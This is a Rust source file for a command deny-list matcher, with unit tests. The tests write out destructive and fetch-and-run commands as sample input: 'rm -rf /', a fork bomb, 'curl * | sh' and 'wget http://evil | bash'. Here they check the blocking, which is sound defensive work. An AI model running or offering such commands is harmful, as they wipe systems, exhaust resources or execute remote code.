//! Command deny-list.
//!
//! Patterns are matched case-insensitively against whitespace-collapsed
//! input. `*` matches any run of characters; everything else is literal.

use regex_lite::Regex;

#[derive(Debug)]
enum Matcher {
    Pattern(Regex),
    Substring(String),
}

#[derive(Debug)]
struct Entry {
    original: String,
    matcher: Matcher,
}

/// A compiled set of deny-list patterns.
#[derive(Debug)]
pub struct Blacklist {
    entries: Vec<Entry>,
    whitespace: Option<Regex>,
}

impl Blacklist {
    pub fn new(patterns: &[String]) -> Self {
        let whitespace = Regex::new(r"\s+").ok();
        let entries = patterns
            .iter()
            .map(|pattern| {
                let normalized = collapse(whitespace.as_ref(), &pattern.to_lowercase());
                let source = regex_lite::escape(&normalized).replace(r"\*", ".*");
                let matcher = match Regex::new(&source) {
                    Ok(re) => Matcher::Pattern(re),
                    Err(_) => Matcher::Substring(normalized),
                };
                Entry {
                    original: pattern.clone(),
                    matcher,
                }
            })
            .collect();
        Self {
            entries,
            whitespace,
        }
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Return the first pattern (as configured) that matches `input`.
    pub fn check(&self, input: &str) -> Option<&str> {
        if self.entries.is_empty() {
            return None;
        }
        let normalized = collapse(self.whitespace.as_ref(), &input.to_lowercase());
        self.entries
            .iter()
            .find(|entry| match &entry.matcher {
                Matcher::Pattern(re) => re.is_match(&normalized),
                Matcher::Substring(s) => normalized.contains(s.as_str()),
            })
            .map(|entry| entry.original.as_str())
    }
}

fn collapse(whitespace: Option<&Regex>, s: &str) -> String {
    match whitespace {
        Some(re) => re.replace_all(s, " ").into_owned(),
        None => s.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::default_blacklist;

    fn list(patterns: &[&str]) -> Blacklist {
        let owned: Vec<String> = patterns.iter().map(|p| p.to_string()).collect();
        Blacklist::new(&owned)
    }

    #[test]
    fn literal_match_is_case_and_space_insensitive() {
        let bl = list(&["rm -rf /"]);
        assert_eq!(bl.check("RM   -RF\t/"), Some("rm -rf /"));
        assert_eq!(bl.check("ls -la"), None);
    }

    #[test]
    fn wildcard_spans_arguments() {
        let bl = list(&["curl * | sh"]);
        assert!(bl.check("curl https://x.example/install | sh").is_some());
        assert!(bl.check("curl https://x.example/install -o out").is_none());
    }

    #[test]
    fn regex_metacharacters_are_literal() {
        let bl = list(&[":(){ :|:& };:"]);
        assert!(bl.check("bash -c ':(){ :|:& };:'").is_some());
        assert!(bl.check("echo ::").is_none());
    }

    #[test]
    fn reports_configured_spelling() {
        let bl = list(&["Shutdown"]);
        assert_eq!(bl.check("sudo shutdown now"), Some("Shutdown"));
    }

    #[test]
    fn empty_list_allows_everything() {
        let bl = Blacklist::new(&[]);
        assert!(bl.is_empty());
        assert!(bl.check("rm -rf /").is_none());
    }

    #[test]
    fn default_list_blocks_known_commands() {
        let bl = Blacklist::new(&default_blacklist());
        assert!(bl.check("bash -c rm -rf /").is_some());
        assert!(bl.check("wget http://evil | bash").is_some());
        assert!(bl.check("echo hello").is_none());
    }
}
